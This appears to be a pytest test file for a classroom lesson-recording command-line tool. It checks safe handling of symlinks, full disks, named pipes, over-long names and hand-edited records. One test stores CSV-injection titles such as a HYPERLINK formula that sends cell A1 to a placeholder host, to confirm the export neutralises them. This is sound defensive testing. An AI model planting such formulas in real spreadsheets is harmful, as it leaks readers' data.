"""What somebody could have in a lesson, a record or a name without meaning harm, or meaning it."""

from __future__ import annotations

import errno
import os
import sqlite3
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from pathlib import Path

import numpy as np
import pytest

from caller.cli import hall as hall_verb
from caller.cli import main, plan
from caller.hall.response import Measurement, measure_response
from caller.hall.sweep_run import SoundArrival
from caller.lesson.library import lesson_from_text
from caller.live.keys import Controls, controls_of
from caller.planning.checks import look_over
from caller.planning.lengths import SpokenLengths
from caller.planning.staging import Stage, rehearse
from caller.record import Tally
from caller.record.files import RUNNING, OneLesson, record_path
from caller.record.store import Store
from tests.planning.fakes import quiet_lengths
from tests.record.conftest import a_round


@pytest.fixture(autouse=True)
def own_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("XDG_DATA_HOME", "LOCALAPPDATA"):
        monkeypatch.setenv(name, str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)


def keep(class_name: str, title: str) -> None:
    with Store() as store:
        began_s = time.time() - 1000
        number = store.begin(
            class_name=class_name, title=title, began_s=began_s, planned_s=None, stand_in=False,
            run_sheet="{}", branches="{}",
        )  # fmt: skip
        store.keep(number, a_round(1, "7:45", "8:45", Tally(judgement="few"), began_s + 60))
        store.keep(number, a_round(2, "7:15", "8:15", Tally(missed=3), began_s + 120))
        store.end(number, began_s + 900, "ended")


def test_the_record_is_never_copied_onto_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    keep("Terns", "Quarters")
    (tmp_path / "link.sqlite3").symlink_to(record_path())
    os.link(record_path(), tmp_path / "same.sqlite3")
    before = record_path().read_bytes()
    for target in (record_path(), tmp_path / "same.sqlite3", tmp_path / "link.sqlite3"):
        assert main(["record", "backup", "--to", str(target), "--replace"]) == 2
    assert "is what is being read" in capsys.readouterr().err
    assert record_path().read_bytes() == before
    assert main(["record", "Terns"]) == 0


def test_a_title_that_a_spreadsheet_would_run_is_text_in_the_table(tmp_path: Path) -> None:
    """OWASP, CSV Injection: cells that begin with =, +, - or @ are formulas (from memory)."""
    for sign in "=+-@":
        keep("Terns", f'{sign}HYPERLINK("http://x/?"&A1,"open")')
    assert main(["record", "Terns", "--to", str(tmp_path / "terns.csv")]) == 0
    table = (tmp_path / "terns.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" in table
    for sign in "=+-@":
        assert f",{sign}HYPER" not in table
        assert f',"{sign}HYPER' not in table


def test_a_class_without_a_name_is_told_of_as_that(capsys: pytest.CaptureFixture[str]) -> None:
    keep("", "Quarters")
    assert main(["record", "Terns"]) == 2
    assert 'no class "Terns". It has: (no class named).' in capsys.readouterr().err


@pytest.mark.parametrize(
    "change", ["began_s = 1e12", "began_s = -1e12", "present = 0", "present = -3", "ended_s = 1e300"]
)
def test_a_record_edited_by_hand_is_read_as_far_as_it_makes_sense(
    change: str, capsys: pytest.CaptureFixture[str]
) -> None:
    keep("Terns", "Quarters")
    keep("Terns", "Halves")
    connection = sqlite3.connect(record_path())
    with connection:
        connection.execute(f"UPDATE lesson SET {change} WHERE title = 'Halves'")
    connection.close()
    assert main(["record", "Terns"]) == 0
    assert capsys.readouterr().out.startswith("The Terns had ")
    for more in (["--json"], ["--to", "terns.csv"], ["--to", "terns.svg"]):
        assert main(["record", "Terns", *more]) == 0, capsys.readouterr().err


OWN_WORDS = """
title = '{0}'
[opening]
welcome = '{0}'
lead_in = '{0}'
[[round]]
time = '4:30'
say = '{0}'
reason = '{0}'
[close]
say = '{0}'
"""


@pytest.mark.parametrize("words", ["...", "…", "?!"])
def test_words_of_nothing_but_marks_are_no_surprise(words: str) -> None:
    lesson = lesson_from_text(OWN_WORDS.format(words))
    assert lesson.opening.welcome == lesson.rounds[0].reason == words
    findings = look_over(rehearse(lesson, Stage(), quiet_lengths()))
    assert {each.check for each in findings} <= {"activity", "length", "safety"}


FULL = errno.ENOSPC
DENIED = errno.EACCES
WRITING = {
    "lesson": "new lesson --to out.toml",
    "plan": "plan terns.toml --to out.toml",
    "table": "record Terns --to out.csv",
    "chart": "record Terns --to out.png",
    "copy": "record backup --to out.sqlite3",
    "hall": "hall gym --to out.png",
    "dial": "dial 4:40 --to out.svg",
    "reason": "explain 4:40 --to out.png",
    "moves": "moves march --to out.png",
    "measured": "hall measure hall.toml",
    "delay": "hall measure --delay",
    "lines": "voice demo --to out.txt",
}


@cache
def well_measured() -> Measurement:
    decay = np.random.default_rng(1).standard_normal(96_000) * 10 ** (-3 * np.arange(96_000) / 48_000)
    return measure_response(decay, 48_000)


@pytest.fixture
def stubs(monkeypatch: pytest.MonkeyPatch) -> None:
    """A hall that is measured at once, and sentences whose lengths are known."""

    @contextmanager
    def quietly(_expected: str) -> Iterator[SpokenLengths]:
        yield quiet_lengths()

    monkeypatch.setattr(plan, "spoken_lengths", quietly)
    monkeypatch.setattr(hall_verb, "measure_hall", lambda *_, **__: (well_measured(), None))
    arrival = SoundArrival(loudspeaker="hall", late_s=0.2)
    monkeypatch.setattr(hall_verb, "time_loudspeaker", lambda *_, **__: arrival)
    monkeypatch.setattr(hall_verb, "WARNING_S", 0)


@pytest.mark.usefixtures("stubs")
@pytest.mark.parametrize(("number", "code"), [(FULL, 1), (DENIED, 2)])
@pytest.mark.parametrize("verb", WRITING)
def test_one_fault_has_one_exit_code_in_every_verb_and_costs_no_file_that_was_there(
    verb: str,
    number: int,
    code: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A disk that is full as the file is finished; a folder that takes no file."""
    keep("Terns", "Quarters")
    (tmp_path / "terns.toml").write_text('name = "Terns"\nage = "6-7"\nstep = "quarters"\nminutes = 10\n')
    (tmp_path / "hall.toml").write_text('like = "gym"\n')
    words = WRITING[verb].split()
    if "--to" in words:
        (tmp_path / words[-1]).write_text("the old one")
        words.append("--replace")
    before = {path: path.read_bytes() for path in tmp_path.glob("*.*")}

    def refuse(*_: object, **__: object) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(os, "fsync" if number == FULL else "mkdir", refuse)
    assert main(words) == code
    told = [line for line in capsys.readouterr().err.splitlines() if line.startswith("hall-caller: ")]
    assert len(told) == 1
    assert os.strerror(number) in told[0]
    assert {path: path.read_bytes() for path in tmp_path.glob("*.*")} == before
    assert not list(tmp_path.glob(".hall-caller*"))


@pytest.mark.parametrize("log", ["odd.toml", "precious.txt"])
def test_a_log_never_takes_the_place_of_a_script_or_unasked_of_any_file(
    log: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "odd.toml").write_text('[[round]]\ntime = "4:30"\n')
    (tmp_path / "precious.txt").write_text("precious")
    before = (tmp_path / log).read_bytes()
    replace = ["--replace"] if log == "odd.toml" else []
    assert main(["run", "odd.toml", "--mute", "--log", log, *replace]) == 2
    told = capsys.readouterr().err
    assert ("is what is being read" if replace else "is there already") in told
    assert (tmp_path / log).read_bytes() == before


@pytest.mark.parametrize(
    "words", ["run {}", "show {}", "check {}", "hall {}", "plan {} --to x.toml", "plan terns.toml --to {}"]
)
def test_a_name_longer_than_any_file_has_is_one_sentence(
    words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "terns.toml").write_text('name = "Terns"\nage = "6-7"\nstep = "quarters"\n')
    assert main(words.format("x" * 300 + ".toml").split()) == 2
    told = capsys.readouterr()
    heading = 1 if words.startswith("check") else 0  # the lesson's name, above what there is to say of it
    assert len((told.out + told.err).splitlines()) == 1 + heading


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="has no named pipes")
@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "words",
    [
        "plan pipe.toml --to x.toml", "handover pipe.toml --to folder", "record pipe.toml", "show pipe.toml",
        "hall pipe.toml", "record Terns --to pipe.toml", "record Terns --to pipe.csv --replace",
        "run odd.toml --mute --log pipe.csv --replace",
    ],
)  # fmt: skip
def test_a_pipe_is_never_waited_for(words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    keep("Terns", "Quarters")
    for name in ("pipe.toml", "pipe.csv"):
        os.mkfifo(tmp_path / name)
    (tmp_path / "odd.toml").write_text('[[round]]\ntime = "4:30"\n')
    assert main(words.split()) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="has no named pipes")
@pytest.mark.timeout(20)
def test_a_pipe_in_place_of_the_teachers_keys_or_classes_is_told_or_left_out(tmp_path: Path) -> None:
    own = record_path().parent
    (own / "classes").mkdir(parents=True)
    os.mkfifo(own / "keys.toml")
    os.mkfifo(own / "classes" / "terns.toml")
    assert controls_of() == Controls()
    assert main(["lessons"]) == 0


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has other locks")
@pytest.mark.parametrize("number", [errno.EIO, errno.ENOLCK])
def test_a_disk_without_locks_is_not_told_as_a_running_lesson(
    number: int, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    keep("Terns", "Quarters")

    def refuse(*_: object) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr("fcntl.flock", refuse)
    assert main(["record", "forget", "Terns"]) == 0
    assert "forgotten" in capsys.readouterr().out


def test_nothing_is_led_and_nothing_called_cut_off_beside_a_running_lesson(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "odd.toml").write_text('[[round]]\ntime = "4:30"\n')
    for more in ([], ["--carry-on"]):
        with OneLesson():
            assert main(["run", "odd.toml", "--mute", *more]) == 2
        told = capsys.readouterr()
        assert told.err == f"hall-caller: {RUNNING}\n"
        assert "cut off" not in told.out
